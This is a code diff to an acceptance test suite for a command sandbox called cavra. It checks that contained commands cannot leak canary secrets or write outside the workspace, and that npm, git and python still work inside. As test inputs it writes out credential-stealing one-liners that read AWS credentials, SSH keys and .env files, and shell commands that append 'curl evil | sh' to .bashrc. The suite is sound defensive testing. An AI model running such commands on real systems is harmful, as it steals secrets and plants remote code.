@@ -110,6 +110,8 @@ function envFor(site: Site): NodeJS.ProcessEnv {
     ...process.env,
     ...gitIdentity,
     HOME: site.home,
+    // The real home by name: inside, HOME is the sandbox's own home, and an attack names the real one.
+    SITE_HOME: site.home,
     CAVRA_HOME: fx.home,
     PATH: `${path.dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin`,
     CANARY_API_TOKEN: canary.variable,
@@ -121,10 +123,15 @@ function envFor(site: Site): NodeJS.ProcessEnv {
 const leaked = (result: RunResult, extra = '') =>
   canaries.filter((c) => result.stdout.includes(c) || result.stderr.includes(c) || extra.includes(c));
 
-function containedRun(argv: string[], input?: string, site = contained): Promise<RunResult> {
+function containedRun(
+  argv: string[],
+  input?: string,
+  site = contained,
+  env: NodeJS.ProcessEnv = {},
+): Promise<RunResult> {
   return cavra(cli, fx.home, ['exec', '--', ...argv], {
     cwd: site.workspace,
-    env: envFor(site),
+    env: { ...envFor(site), ...env },
     input,
     timeoutMs: 90_000,
   });
@@ -180,7 +187,7 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
     [
       'python3 - <<EOF',
       [python, '-'],
-      "import os\nprint(open(os.path.expanduser('~/.aws/credentials')).read())\n",
+      "import os\nfor p in (os.path.expanduser('~/.aws/credentials'), os.environ['SITE_HOME'] + '/.aws/credentials'):\n  try:\n    print(open(p).read())\n  except OSError as e:\n    print(e)\n",
       canary.aws,
     ],
     [
@@ -188,7 +195,7 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
       [
         process.execPath,
         '-e',
-        "process.stdout.write(require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'))",
+        "for (const home of [require('os').homedir(), process.env.SITE_HOME]) { try { process.stdout.write(require('fs').readFileSync(home + '/.ssh/id_rsa', 'utf8')) } catch (e) { console.log(e.code) } }",
       ],
       undefined,
       canary.ssh,
@@ -197,7 +204,7 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
     ['git show :path (staged object)', ['git', 'show', ':config/.env'], undefined, canary.configEnv],
     [
       'tar c | tar x -O',
-      ['sh', '-c', 'tar cf - .env config "$HOME/.config/gh" 2>/dev/null | tar xOf -'],
+      ['sh', '-c', 'tar cf - .env config "$HOME/.config/gh" "@SITE_HOME@/.config/gh" 2>/dev/null | tar xOf -'],
       undefined,
       canary.gh,
     ],
@@ -212,7 +219,9 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
   it.each(reads)(
     'a secret read by %s leaks without containment and not through cavra exec',
     async (_, argv, input, expected) => {
-      const [inside, outside] = await Promise.all([containedRun(argv, input), controlRun(argv, input)]);
+      // @SITE_HOME@ names the real home literally (inside, HOME is the sandbox's own).
+      const at = (site: Site) => argv.map((arg) => arg.replaceAll('@SITE_HOME@', site.home));
+      const [inside, outside] = await Promise.all([containedRun(at(contained), input), controlRun(at(control), input)]);
       expect(leaked(outside), `control ${argv.join(' ')}: ${outside.stderr}`).toContain(expected);
       expect(inside.stderr).not.toMatch(/cavra exec: not run/);
       expect(leaked(inside), inside.stdout + inside.stderr).toEqual([]);
@@ -261,7 +270,7 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
 
   it('cannot write outside the workspace: shell start-up files, other directories, CAVRA_HOME', async () => {
     const attacks = (site: Site): string[][] => [
-      ['sh', '-c', 'echo "curl evil | sh" >> "$HOME/.bashrc"'],
+      ['sh', '-c', `echo "curl evil | sh" >> "${site.home}/.bashrc"`],
       ['sh', '-c', `echo planted > "${site.outside}/planted"`],
       ['sh', '-c', `echo planted > "${fx.home}/planted-${path.basename(site.root)}"`],
     ];
@@ -281,6 +290,9 @@ describe('acceptance 1: what judgement lets through cannot reach secrets, CI, th
       if (i === 2) expect(inside.stderr).toMatch(/cavra exec: not run\. CAVRA deny/);
       else expect(inside.stderr).not.toMatch(/cavra exec: not run/);
     }
+    // HOME inside is the workspace's own sandbox home: a start-up file written there is never the real one.
+    const sandboxed = await containedRun(['sh', '-c', 'echo "curl evil | sh" >> "$HOME/.bashrc" && echo "$HOME"']);
+    expect(sandboxed.stdout.trim(), sandboxed.stderr).toBe('/run/cavra/home');
     expect(snapshot(watched(contained))).toEqual(before);
     const controlAfter = snapshot(watched(control));
     for (const p of Object.keys(controlAfter)) expect(controlAfter[p], p).not.toBe(controlBefore[p]);
@@ -390,9 +402,42 @@ describe('acceptance 2: everyday work inside the sandbox (enforce mode: both lay
 
   beforeAll(async () => {
     await setMode('enforce');
+    // A real package for npm to install: packed by npm itself, served with its integrity.
+    const source = path.join(contained.root, 'greeting-src');
+    write(path.join(source, 'package.json'), JSON.stringify({ name: 'greeting', version: '1.0.0', main: 'index.js' }));
+    write(path.join(source, 'index.js'), "module.exports = 'hello from the mirror';\n");
+    const packed = await run('npm', ['pack', '--silent', '--pack-destination', contained.root], { cwd: source });
+    expect(packed.code, packed.stderr).toBe(0);
+    const tarball = fs.readFileSync(path.join(contained.root, 'greeting-1.0.0.tgz'));
     registry = http.createServer((request, response) => {
       requests.push(`${request.method} ${request.url}`);
+      const base = `http://127.0.0.1:${registryPort}`;
+      if (request.url === '/greeting/-/greeting-1.0.0.tgz') {
+        response.writeHead(200, { 'Content-Type': 'application/octet-stream' });
+        response.end(tarball);
+        return;
+      }
       response.writeHead(200, { 'Content-Type': 'application/json' });
+      if (request.url === '/greeting') {
+        response.end(
+          JSON.stringify({
+            name: 'greeting',
+            'dist-tags': { latest: '1.0.0' },
+            versions: {
+              '1.0.0': {
+                name: 'greeting',
+                version: '1.0.0',
+                main: 'index.js',
+                dist: {
+                  tarball: `${base}/greeting/-/greeting-1.0.0.tgz`,
+                  integrity: `sha512-${crypto.createHash('sha512').update(tarball).digest('base64')}`,
+                },
+              },
+            },
+          }),
+        );
+        return;
+      }
       response.end(JSON.stringify({ name: 'left-pad', 'dist-tags': { latest: '1.3.0' } }));
     });
     await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
@@ -468,4 +513,72 @@ describe('acceptance 2: everyday work inside the sandbox (enforce mode: both lay
     expect(JSON.parse(fetched.stdout)).toMatchObject({ name: 'left-pad' });
     expect(requests).toContain('GET /left-pad');
   }, 60_000);
+
+  /** Every file under the real home, with its content hash: nothing a contained tool does may change it. */
+  const homeTree = (site: Site): Record<string, string> => {
+    const out: Record<string, string> = {};
+    const walk = (dir: string) => {
+      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
+        const p = path.join(dir, entry.name);
+        if (entry.isDirectory()) walk(p);
+        else out[path.relative(site.home, p)] = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex');
+      }
+    };
+    walk(site.home);
+    return out;
+  };
+
+  it('tools get a writable home of the workspace’s own: npm install from the registry, git config --global, a python cache — the real home never changes', async () => {
+    write(path.join(contained.home, '.gitconfig'), '[alias]\n\tlast = log -1 --format=%s\n');
+    const before = homeTree(contained);
+    // npm writes its cache and logs under HOME: on a read-only home this failed with ENOENT/EROFS.
+    // The company mirror, configured the way CI configures it (a project .npmrc is a protected read path).
+    const mirror = { npm_config_registry: `http://127.0.0.1:${registryPort}/` };
+    const install = await containedRun(
+      ['npm', 'install', '--no-audit', '--no-fund', 'greeting'],
+      undefined,
+      contained,
+      mirror,
+    );
+    expect(install.code, install.stdout + install.stderr).toBe(0);
+    expect(requests).toContain('GET /greeting/-/greeting-1.0.0.tgz');
+    write(path.join(contained.workspace, 'use.js'), "console.log(require('greeting'));\n");
+    const used = await containedRun([process.execPath, 'use.js']);
+    expect(used.stdout.trim(), used.stderr).toBe('hello from the mirror');
+    // The cache stays between runs of this workspace (and only this one).
+    const cached = await containedRun(['sh', '-c', 'ls "$HOME/.npm/_cacache" >/dev/null && echo cached']);
+    expect(cached.stdout.trim(), cached.stderr).toBe('cached');
+    const elsewhere = await containedRun(
+      ['sh', '-c', 'ls "$HOME/.npm/_cacache" 2>/dev/null || echo empty'],
+      undefined,
+      control,
+    );
+    expect(elsewhere.stdout.trim()).toBe('empty');
+
+    // A tool's cache under the XDG cache directory.
+    write(
+      path.join(contained.workspace, 'cache.py'),
+      [
+        'import os, pathlib',
+        "d = pathlib.Path(os.environ['XDG_CACHE_HOME']) / 'everyday'",
+        'd.mkdir(parents=True, exist_ok=True)',
+        "(d / 'ok').write_text('1')",
+        "print((pathlib.Path.home() / '.cache' / 'everyday' / 'ok').read_text())",
+        '',
+      ].join('\n'),
+    );
+    const python = await containedRun(['/usr/bin/python3', 'cache.py']);
+    expect(python.code, python.stderr).toBe(0);
+    expect(python.stdout.trim()).toBe('1');
+
+    // The user's own git settings still apply (included read-only); --global writes the sandbox's copy.
+    const global = await containedRun(['git', 'config', '--global', 'init.defaultBranch', 'trunk']);
+    expect(global.code, global.stderr).toBe(0);
+    const settings = await containedRun(['git', 'config', '--get-regexp', '^(alias[.]last|init[.]defaultbranch)$']);
+    expect(settings.stdout.split('\n').filter(Boolean).sort(), settings.stderr).toEqual([
+      'alias.last log -1 --format=%s',
+      'init.defaultbranch trunk',
+    ]);
+    expect(homeTree(contained)).toEqual(before);
+  }, 180_000);
 });
